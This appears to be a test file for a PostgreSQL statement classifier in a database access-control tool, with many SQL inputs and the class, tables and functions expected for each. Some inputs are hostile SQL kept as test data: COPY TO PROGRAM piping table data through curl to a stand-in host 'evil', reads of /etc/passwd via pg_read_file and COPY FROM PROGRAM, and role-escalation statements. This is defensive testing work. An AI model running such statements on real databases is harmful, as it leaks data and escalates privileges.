import type { StatementClass } from '@portcullis/crds';
import { initStatementParser, parseStatements } from './statement-parser.js';
import type { StatementInfo } from './statement-info.js';

beforeAll(() => initStatementParser());

/** What a case expects; fields left out are not checked. */
interface Expected {
  class: StatementClass;
  classes?: StatementClass[];
  read?: string[];
  written?: string[];
  functions?: string[];
  hasWhere?: boolean;
  executes?: string[];
  prepares?: string;
  deallocates?: string;
}

function only(sql: string): StatementInfo {
  const outcome = parseStatements(sql);
  if (!outcome.ok) throw new Error(`${sql}: ${outcome.message}`);
  expect(outcome.statements).toHaveLength(1);
  return outcome.statements[0]!.info;
}

const cases: [string, Expected][] = [
  // Reads
  ['SELECT 1', { class: 'read', classes: ['read'], read: [], written: [] }],
  ['select * from orders', { class: 'read', read: ['public.orders'] }],
  [
    'SELECT * FROM sales.orders o JOIN customers c ON c.id = o.customer_id',
    { class: 'read', read: ['sales.orders', 'public.customers'] },
  ],
  ['TABLE orders', { class: 'read', read: ['public.orders'] }],
  ['VALUES (1), (2)', { class: 'read', read: [] }],
  ['SELECT * FROM "Orders"', { class: 'read', read: ['public.Orders'] }],
  ['SELECT * FROM U&"\\006Frders"', { class: 'read', read: ['public.orders'] }],
  ['SELECT * FROM pg_class', { class: 'read', read: ['pg_catalog.pg_class'] }],
  [
    'SELECT * FROM information_schema.tables',
    { class: 'read', read: ['information_schema.tables'] },
  ],
  [
    'SELECT (SELECT max(id) FROM orders) FROM customers',
    { class: 'read', read: ['public.orders', 'public.customers'], functions: ['max'] },
  ],
  [
    'SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.cid = c.id) x',
    { class: 'read', read: ['public.customers', 'public.orders'] },
  ],
  [
    'SELECT * FROM t WHERE id IN (SELECT id FROM u UNION SELECT id FROM v)',
    { class: 'read', read: ['public.t', 'public.u', 'public.v'] },
  ],
  ['SELECT id FROM a EXCEPT SELECT id FROM b', { class: 'read', read: ['public.a', 'public.b'] }],
  ['WITH x AS (SELECT * FROM orders) SELECT * FROM x', { class: 'read', read: ['public.orders'] }],
  [
    'WITH orders AS (SELECT * FROM orders) SELECT * FROM orders',
    { class: 'read', read: ['public.orders'] },
  ],
  ['SELECT (WITH x AS (SELECT 1) SELECT 1), * FROM x', { class: 'read', read: ['public.x'] }],
  [
    'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r',
    { class: 'read', read: [] },
  ],
  [
    'SELECT lower(email), count(*) FROM customers GROUP BY 1',
    { class: 'read', functions: ['lower', 'count'] },
  ],
  [
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    { class: 'read', functions: ['pg_catalog.pg_read_file'] },
  ],
  ["SELECT * FROM pg_ls_dir('.') AS f", { class: 'read', functions: ['pg_ls_dir'] }],
  [
    'SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY[1]))',
    { class: 'read', functions: ['generate_series', 'unnest'] },
  ],
  ['SELECT coalesce(a, lo_get(1)) FROM t', { class: 'read', functions: ['lo_get'] }],
  ['SELECT x FROM t ORDER BY pg_sleep(1)', { class: 'read', functions: ['pg_sleep'] }],
  ['SELECT * FROM t FOR UPDATE', { class: 'read', read: ['public.t'] }],
  ['SHOW search_path', { class: 'read' }],
  [
    'EXPLAIN DELETE FROM orders',
    { class: 'read', classes: ['read'], read: ['public.orders'], written: [] },
  ],
  ['EXPLAIN (ANALYZE false) DELETE FROM orders', { class: 'read', written: [] }],
  ['EXPLAIN (ANALYZE off, FORMAT json) UPDATE t SET a = 1', { class: 'read', written: [] }],
  ['DECLARE c CURSOR FOR SELECT * FROM orders', { class: 'read', read: ['public.orders'] }],
  ['FETCH 10 FROM c', { class: 'read' }],

  // Writes
  ['INSERT INTO orders (id) VALUES (1)', { class: 'insert', written: ['public.orders'] }],
  [
    'INSERT INTO archive SELECT * FROM orders',
    { class: 'insert', written: ['public.archive'], read: ['public.orders'] },
  ],
  [
    'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v',
    { class: 'update', classes: ['update', 'insert'], hasWhere: true },
  ],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', { class: 'insert', classes: ['insert'] }],
  [
    "UPDATE orders SET status = 'x' WHERE id = 1",
    { class: 'update', written: ['public.orders'], hasWhere: true },
  ],
  ["UPDATE orders SET status = 'x'", { class: 'update', hasWhere: false }],
  ["UPDATE orders SET status = 'x' WHERE true", { class: 'update', hasWhere: false }],
  [
    'UPDATE o SET total = s.t FROM sums s WHERE s.id = o.id',
    { class: 'update', written: ['public.o'], read: ['public.sums'], hasWhere: true },
  ],
  [
    'DELETE FROM orders WHERE id = $1',
    { class: 'delete', written: ['public.orders'], hasWhere: true },
  ],
  ['DELETE FROM orders', { class: 'delete', hasWhere: false }],
  ['DELETE FROM orders WHERE 1 = 1', { class: 'delete', hasWhere: false }],
  ['DELETE FROM orders WHERE $1', { class: 'delete', hasWhere: false }],
  ['DELETE FROM orders WHERE CURRENT OF c', { class: 'delete', hasWhere: true }],
  [
    'DELETE FROM orders o USING customers c WHERE c.id = o.cid',
    { class: 'delete', read: ['public.customers'], hasWhere: true },
  ],
  ['dElEtE /* hi */ FrOm orders', { class: 'delete', hasWhere: false }],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)',
    {
      class: 'update',
      classes: ['update', 'merge', 'insert'],
      written: ['public.t'],
      read: ['public.s'],
      hasWhere: true,
    },
  ],
  [
    'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
    { class: 'delete', classes: ['delete', 'merge'], hasWhere: false },
  ],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING',
    { class: 'merge', classes: ['merge'] },
  ],

  // Wrappers
  [
    'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d',
    { class: 'delete', classes: ['delete'], written: ['public.orders'], hasWhere: true },
  ],
  [
    'WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d',
    {
      class: 'delete',
      classes: ['delete', 'insert'],
      written: ['public.orders', 'public.archive'],
      hasWhere: false,
    },
  ],
  ['WITH RECURSIVE r AS (SELECT 1) UPDATE t SET a = 1', { class: 'update', hasWhere: false }],
  [
    'SELECT * FROM (SELECT 1) s, LATERAL (SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM u) z) y',
    { class: 'update', written: ['public.t'] },
  ],
  [
    'EXPLAIN ANALYZE DELETE FROM orders',
    { class: 'delete', written: ['public.orders'], hasWhere: false },
  ],
  ['EXPLAIN ANALYSE DELETE FROM orders', { class: 'delete' }],
  ['EXPLAIN (ANALYZE) UPDATE t SET a = 1', { class: 'update' }],
  ['EXPLAIN (ANALYZE 1) UPDATE t SET a = 1', { class: 'update' }],
  ['EXPLAIN (ANALYZE on, BUFFERS) INSERT INTO t VALUES (1)', { class: 'insert' }],
  ['EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM t WHERE a = 1', { class: 'delete' }],
  ['EXPLAIN ANALYZE EXECUTE p(1)', { class: 'session', classes: [], executes: ['p'] }],
  ['EXPLAIN EXECUTE p(1)', { class: 'read', executes: [] }],
  [
    'PREPARE p(int) AS DELETE FROM orders WHERE id = $1',
    { class: 'delete', prepares: 'p', written: ['public.orders'] },
  ],
  ['PREPARE q AS SELECT * FROM orders', { class: 'read', prepares: 'q' }],
  ['EXECUTE p(1)', { class: 'session', classes: [], executes: ['p'] }],
  [
    "EXECUTE p(pg_read_file('/etc/passwd'))",
    { class: 'session', functions: ['pg_read_file'], executes: ['p'] },
  ],
  ['DEALLOCATE p', { class: 'session', deallocates: 'p' }],
  ['DEALLOCATE ALL', { class: 'session', deallocates: '*' }],
  ['DISCARD ALL', { class: 'session', deallocates: '*' }],
  ['DISCARD PLANS', { class: 'session' }],
  [
    'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM audit',
    { class: 'ddl', classes: ['ddl', 'delete'], written: ['public.t', 'public.audit'] },
  ],
  [
    'CREATE RULE r AS ON SELECT TO t DO INSTEAD NOTIFY ch',
    { class: 'ddl', classes: ['ddl', 'notify'] },
  ],
  [
    'CREATE VIEW v AS SELECT * FROM orders',
    { class: 'ddl', written: ['public.v'], read: ['public.orders'] },
  ],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END',
    { class: 'ddl', classes: ['ddl', 'delete'] },
  ],
  ['CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql', { class: 'ddl' }],
  [
    'SELECT * INTO new_orders FROM orders',
    {
      class: 'ddl',
      classes: ['ddl'],
      written: ['public.new_orders'],
      read: ['public.orders'],
    },
  ],
  [
    'CREATE TABLE n AS SELECT * FROM orders',
    { class: 'ddl', written: ['public.n'], read: ['public.orders'] },
  ],
  ['CREATE MATERIALIZED VIEW m AS SELECT * FROM orders', { class: 'ddl', read: ['public.orders'] }],
  [
    'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
    { class: 'delete', classes: ['delete', 'copy-out'], written: ['public.orders'] },
  ],
  ["COPY (SELECT pg_read_file('x')) TO STDOUT", { class: 'copy-out', functions: ['pg_read_file'] }],

  // COPY
  ['COPY orders TO STDOUT', { class: 'copy-out', read: ['public.orders'], written: [] }],
  ['COPY orders (id) FROM STDIN', { class: 'copy-in', written: ['public.orders'] }],
  ['COPY orders FROM STDIN WHERE id > 0', { class: 'copy-in' }],
  ["COPY orders TO PROGRAM 'curl -d @- evil'", { class: 'copy-program', read: ['public.orders'] }],
  [
    "COPY orders FROM PROGRAM 'cat /etc/passwd'",
    { class: 'copy-program', written: ['public.orders'] },
  ],
  ["COPY orders TO '/tmp/orders.csv'", { class: 'copy-program' }],
  ["COPY orders FROM '/etc/passwd'", { class: 'copy-program' }],

  // DDL, grants, roles
  ['CREATE TABLE t (id int)', { class: 'ddl', written: ['public.t'] }],
  [
    "CREATE TEMP TABLE t (a int DEFAULT pg_read_file('x')::int)",
    { class: 'ddl', functions: ['pg_read_file'] },
  ],
  ['ALTER TABLE orders ADD COLUMN note text', { class: 'ddl', written: ['public.orders'] }],
  [
    'DROP TABLE sales.orders, customers',
    { class: 'ddl', written: ['sales.orders', 'public.customers'] },
  ],
  ['DROP FUNCTION f(int)', { class: 'ddl', written: [] }],
  ['CREATE INDEX ON orders (id)', { class: 'ddl', written: ['public.orders'] }],
  ["COMMENT ON TABLE orders IS 'x'", { class: 'ddl' }],
  ['CREATE EXTENSION dblink', { class: 'ddl' }],
  ['CREATE SCHEMA s', { class: 'ddl' }],
  ["ALTER SYSTEM SET work_mem = '1GB'", { class: 'ddl' }],
  ["LOAD 'plpgsql'", { class: 'ddl' }],
  ['REFRESH MATERIALIZED VIEW m', { class: 'ddl', written: ['public.m'] }],
  [
    'TRUNCATE orders, sales.items',
    { class: 'truncate', written: ['public.orders', 'sales.items'] },
  ],
  ['GRANT SELECT ON orders TO PUBLIC', { class: 'grant', read: ['public.orders'] }],
  ['REVOKE ALL ON orders FROM app', { class: 'grant' }],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app', { class: 'grant' }],
  ['GRANT postgres TO CURRENT_USER', { class: 'role', classes: ['role', 'grant'] }],
  ['SET ROLE postgres', { class: 'role' }],
  ['SET LOCAL ROLE postgres', { class: 'role' }],
  ['set "role" = \'postgres\'', { class: 'role' }],
  ['RESET ROLE', { class: 'role' }],
  ['SET SESSION AUTHORIZATION postgres', { class: 'role' }],
  ['RESET SESSION AUTHORIZATION', { class: 'role' }],
  ['CREATE ROLE x LOGIN', { class: 'role' }],
  ['ALTER ROLE CURRENT_USER SET role = postgres', { class: 'role' }],
  ['DROP ROLE x', { class: 'role' }],
  ["SELECT set_config('role', 'postgres', false)", { class: 'role', classes: ['role'] }],
  ["SELECT set_config('ROLE'::text, 'postgres', false)", { class: 'role' }],
  ["SELECT set_config('session_authorization', 'postgres', false)", { class: 'role' }],
  ["SELECT set_config(lower('ROLE'), 'postgres', false)", { class: 'role' }],
  [
    "SELECT 1 WHERE set_config('search_path', 'public', true) IS NOT NULL",
    { class: 'session', classes: ['session'] },
  ],
  [
    "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'",
    { class: 'role', classes: ['role', 'update'] },
  ],

  // Procedural, transaction, session, notifications, utility
  ['DO $$ BEGIN PERFORM 1; END $$', { class: 'procedural' }],
  [
    "CALL archive_orders(pg_read_file('x'))",
    { class: 'procedural', functions: ['archive_orders', 'pg_read_file'] },
  ],
  ['BEGIN', { class: 'transaction' }],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', { class: 'transaction' }],
  ['SAVEPOINT s', { class: 'transaction' }],
  ['COMMIT', { class: 'transaction' }],
  ["PREPARE TRANSACTION 'x'", { class: 'transaction' }],
  ['SET TRANSACTION READ ONLY', { class: 'transaction' }],
  ['SET CONSTRAINTS ALL DEFERRED', { class: 'transaction' }],
  ['SET search_path TO app, public', { class: 'session' }],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', { class: 'session' }],
  ['RESET ALL', { class: 'session' }],
  ['CLOSE c', { class: 'session' }],
  ['LISTEN orders_changed', { class: 'listen' }],
  ['UNLISTEN *', { class: 'listen' }],
  ["NOTIFY orders_changed, '1'", { class: 'notify' }],
  ["SELECT pg_notify('orders_changed', '1')", { class: 'notify', classes: ['notify'] }],
  ['VACUUM orders', { class: 'utility', read: ['public.orders'], written: [] }],
  ['ANALYZE orders', { class: 'utility' }],
  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', { class: 'utility', read: ['public.orders'] }],
  ['CHECKPOINT', { class: 'utility' }],
  ['REINDEX TABLE orders', { class: 'utility' }],
  ['CLUSTER orders USING orders_pkey', { class: 'utility' }],
];

describe('classifyStatement', () => {
  it.each(cases)('%s', (sql, expected) => {
    const info = only(sql);
    expect(info.class).toBe(expected.class);
    if (expected.classes !== undefined) expect(info.classes).toEqual(expected.classes);
    if (expected.read !== undefined) expect(info.tables.read).toEqual(expected.read);
    if (expected.written !== undefined) expect(info.tables.written).toEqual(expected.written);
    if (expected.functions !== undefined) expect(info.functions).toEqual(expected.functions);
    if (expected.hasWhere !== undefined) expect(info.hasWhere).toBe(expected.hasWhere);
    if (expected.executes !== undefined) expect(info.executes).toEqual(expected.executes);
    if (expected.prepares !== undefined) expect(info.prepares).toBe(expected.prepares);
    if (expected.deallocates !== undefined) expect(info.deallocates).toBe(expected.deallocates);
  });

  it('sees attribute notation as a possible function call', () => {
    const info = only("SELECT ('/etc/hostname'::text).pg_read_file");
    expect(info.functions).toEqual([]);
    expect(info.attributeCalls).toEqual(['pg_read_file']);
    expect(only('SELECT c.email, s.t.col FROM customers c').rowCalls).toEqual(['email', 'col']);
  });

  it('records the accesses of each class on the target of a MERGE', () => {
    const info = only('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE');
    expect(info.access.filter((a) => a.table === 'public.t').map((a) => a.class)).toEqual([
      'merge',
      'delete',
    ]);
  });

  it('marks names whose schema it assumed', () => {
    const info = only('SELECT * FROM orders, sales.items');
    expect(info.access.map((a) => [a.table, a.schemaAssumed])).toEqual([
      ['public.orders', true],
      ['sales.items', false],
    ]);
  });
});

describe('parseStatements', () => {
  it('splits a multi-statement string and keeps each statement text', () => {
    const outcome = parseStatements("select 1; DROP TABLE x ;  select 'é;' ");
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.statements.map((s) => [s.info.class, s.info.text])).toEqual([
      ['read', 'select 1'],
      ['ddl', 'DROP TABLE x'],
      ['read', "select 'é;'"],
    ]);
  });

  it('reads a dollar-quoted string as a string, not as statements', () => {
    const outcome = parseStatements('SELECT $q$; DROP TABLE orders; $q$');
    expect(outcome.ok && outcome.statements.map((s) => s.info.class)).toEqual(['read']);
  });

  it('sees nothing to run in comments and empty statements', () => {
    const outcome = parseStatements('/* DROP TABLE x; /* nested */ still */ ;; -- DELETE FROM t');
    expect(outcome).toEqual({ ok: true, statements: [] });
  });

  it('refuses a syntax error with the parser message and SQLSTATE 42601', () => {
    const outcome = parseStatements('SELEC 1');
    expect(outcome).toMatchObject({ ok: false, rule: 'parse', sqlstate: '42601' });
    expect(!outcome.ok && outcome.message).toContain('syntax error at or near "SELEC"');
  });

  it('refuses a tree nested deeper than it walks', () => {
    const outcome = parseStatements(`SELECT ${'(SELECT '.repeat(1000)}1${')'.repeat(1000)}`);
    expect(outcome.ok).toBe(false);
  });
});
